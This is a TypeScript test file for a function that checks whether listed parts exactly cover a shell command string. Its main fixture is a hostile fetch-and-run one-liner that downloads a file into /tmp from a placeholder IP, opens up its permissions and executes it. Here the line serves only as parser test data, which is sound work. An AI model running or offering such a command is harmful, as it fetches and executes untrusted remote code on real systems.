import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { faultOf } from './command-parts.ts';

const COMMAND = 'cd /tmp; wget http://203.0.113.9/x && chmod 777 x; ./x';
const PARTS = ['cd /tmp', 'wget', 'http://203.0.113.9/x', 'chmod 777 x', './x'];

describe('the parts of a command', () => {
  test('are the whole of it where only what joins commands is left between them', () => {
    expect(faultOf(COMMAND, PARTS)).toBeNull();
    expect(faultOf('a | b || c & ', ['a', 'b', 'c'])).toBeNull();
    expect(faultOf('cd /tmp; ls', ['cd /tmp;', 'ls'])).toBeNull();
  });

  test.each([
    { parts: PARTS.slice(0, 4), part: 4, text: '; ./x' },
    { parts: ['cd /tmp', ...PARTS.slice(2)], part: 1, text: '; wget ' },
    { parts: PARTS.slice(1), part: 0, text: 'cd /tmp; ' },
    { parts: ['cd', ...PARTS.slice(1)], part: 1, text: ' /tmp; ' },
  ])('leave $text over', ({ parts, part, text }) => {
    expect(faultOf(COMMAND, parts)).toEqual({
      kind: 'left-over',
      part,
      text,
      at: COMMAND.lastIndexOf(text),
    });
  });

  test('do not follow one another in another order, nor stand in it twice', () => {
    expect(faultOf('a; b', ['b', 'a'])).toMatchObject({ kind: 'left-over', part: 0, text: 'a; ' });
    expect(faultOf('a; b', ['a', 'b', 'b'])).toEqual({ kind: 'absent', part: 2, text: '', at: 4 });
    expect(faultOf('a; b', ['a', 'c'])).toEqual({ kind: 'absent', part: 1, text: '; b', at: 1 });
  });

  test('are always those that a command was put together from', () => {
    const word = fc.stringMatching(/^[a-z./$]{1,8}$/);
    const joint = fc.constantFrom('; ', ' && ', ' | ', ';', ' ');
    fc.assert(
      fc.property(fc.array(fc.tuple(word, joint), { minLength: 1 }), (pieces) => {
        const command = pieces.map((piece) => piece.join('')).join('');
        const parts = pieces.map(([text]) => text);
        expect(faultOf(command, parts)).toBeNull();
        expect(faultOf(`${command}#`, parts)).toMatchObject({ kind: 'left-over', part: parts.length });
      }),
    );
  });
});
